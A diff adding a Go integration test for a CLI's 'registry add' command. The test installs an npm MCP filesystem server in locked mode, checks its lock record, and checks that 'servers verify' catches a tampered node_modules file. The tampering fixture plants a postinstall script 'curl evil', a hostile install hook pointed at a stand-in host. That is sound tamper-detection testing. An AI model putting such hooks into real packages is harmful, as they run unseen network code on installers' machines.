@@ -1,0 +1,123 @@
+//go:build linux
+
+package cli
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/switchboard-mcp/switchboard/app/config"
+	"github.com/switchboard-mcp/switchboard/app/install"
+	"github.com/switchboard-mcp/switchboard/app/registry"
+	"github.com/switchboard-mcp/switchboard/app/registry/registrytest"
+	"github.com/switchboard-mcp/switchboard/app/hostapi"
+	"github.com/switchboard-mcp/switchboard/internal/testkit"
+)
+
+// TestRegistryAddLocked: 'registry add' of an npm package installs it
+// locked by default (a real install from the npm registry of the
+// server-filesystem version the repository's tests use, published in a
+// v0.1 registry on loopback): the entry runs `node ENTRY ARGS` from the
+// state directory's packages folder, servers.lock records the install,
+// the host starts it and lists its tools; 'servers verify' passes, then
+// names a file changed under node_modules and exits 1; --unlocked keeps
+// npx, and writes no lock entry.
+func TestRegistryAddLocked(t *testing.T) {
+	testkit.SkipShort(t, "an npm install from the npm registry")
+	if _, err := exec.LookPath("npm"); err != nil {
+		testkit.SkipOrFail(t, "npm is not installed (Debian: apt-get install npm): %v", err)
+	}
+	var pj struct{ Dependencies map[string]string }
+	b, err := os.ReadFile("../../engine/stdio/testdata/npm/package.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(b, &pj); err != nil {
+		t.Fatal(err)
+	}
+	const pkg = "@modelcontextprotocol/server-filesystem"
+	version := pj.Dependencies[pkg]
+
+	sb := newSandbox(t)
+	reg := registrytest.New(t)
+	docs := registrytest.Documents(t)
+	fsDoc := docs[slices.IndexFunc(docs, func(d registry.Server) bool { return d.Name == "io.github.modelcontextprotocol/filesystem" })]
+	fsDoc.Version, fsDoc.Packages[0].Version = version, version
+	reg.Publish(fsDoc)
+	writeConfig(t, sb.configPath(), `{"mcpServers": {}, "registries": [{"name": "local", "url": "`+reg.URL+`"}]}`)
+	sb.cli(t, "registry", "sync")
+
+	shared := filepath.Join(sb.root, "shared")
+	if err := os.MkdirAll(shared, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	out := sb.cli(t, "registry", "add", "io.github.modelcontextprotocol/filesystem", "--name", "fs", "--package", "1", "--set", "target_dir="+shared)
+	state := config.StateDir(func(k string) string {
+		if k == "HOME" {
+			return sb.home
+		}
+		return ""
+	})
+	dir := install.Folder(state, pkg, version)
+	bin := filepath.Join(dir, "node_modules", filepath.FromSlash(pkg), "dist", "index.js")
+	f, err := config.Load(sb.configPath())
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := f.Servers["fs"]
+	if s == nil || s.Command != "node" || !slices.Equal(s.Args, []string{bin, shared}) || s.Env["LOG_LEVEL"] != "info" {
+		t.Fatalf("the locked entry: %+v\n%s", s, out)
+	}
+	if !strings.Contains(out, "runs:   node "+bin+" "+shared) || !strings.Contains(out, "locked: "+pkg+"@"+version+" and ") || !strings.Contains(out, "install scripts off") {
+		t.Errorf("what add said:\n%s", out)
+	}
+	lock, err := install.ReadLock(state)
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := lock.Servers["fs"]
+	if l == nil || l.Registry != "local" || l.Entry != "io.github.modelcontextprotocol/filesystem" || l.EntryVersion != version ||
+		l.Ecosystem != "npm" || l.Package != pkg || l.Version != version || l.Dir != dir || l.Bin != bin ||
+		!strings.HasPrefix(l.TreeIntegrity, "sha256-") || l.Packages < 10 || l.InstalledAt.IsZero() {
+		t.Fatalf("servers.lock: %+v", l)
+	}
+
+	// The host starts it with node, no resolver.
+	sb.serve(t)
+	sb.cli(t, "servers", "start", "fs")
+	st := sb.waitServer(t, "fs", "running with tools", func(st hostapi.ServerStatus) bool { return st.State == "running" && st.Tools > 0 })
+	if !strings.HasSuffix(st.Resolved, "/node") {
+		t.Errorf("resolved %q, want node", st.Resolved)
+	}
+
+	if out := sb.cli(t, "servers", "verify", "fs"); !strings.Contains(out, "fs: ok: "+pkg+"@"+version+" as locked ("+l.TreeIntegrity+")") {
+		t.Errorf("verify of a fresh install:\n%s", out)
+	}
+	tampered := filepath.Join(dir, "node_modules", "diff", "package.json")
+	if err := os.WriteFile(tampered, []byte(`{"name": "diff", "scripts": {"postinstall": "curl evil"}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r := sb.run(t, "", "servers", "verify")
+	if r.code != 1 || !strings.Contains(r.stdout, "fs: CHANGED: "+pkg+"@"+version+" in "+dir+" differs from its lock:\n  file node_modules/diff/package.json: changed") ||
+		!strings.Contains(r.stderr, "1 locked install(s) changed") {
+		t.Errorf("verify of a tampered tree: %s", r)
+	}
+	r = sb.run(t, "", "servers", "verify", "nope")
+	if r.code != 1 || !strings.Contains(r.stderr, "nope has no locked install") {
+		t.Errorf("verify of a server without a lock: %s", r)
+	}
+
+	// --unlocked: npx, no lock entry.
+	sb.cli(t, "registry", "add", "io.github.modelcontextprotocol/filesystem", "--name", "fs2", "--package", "1", "--unlocked")
+	if f, _ := config.Load(sb.configPath()); f.Servers["fs2"] == nil || f.Servers["fs2"].Command != "npx" {
+		t.Errorf("--unlocked: %+v", f.Servers["fs2"])
+	}
+	if lock, _ := install.ReadLock(state); lock.Servers["fs2"] != nil {
+		t.Errorf("--unlocked wrote a lock entry: %+v", lock.Servers["fs2"])
+	}
+}
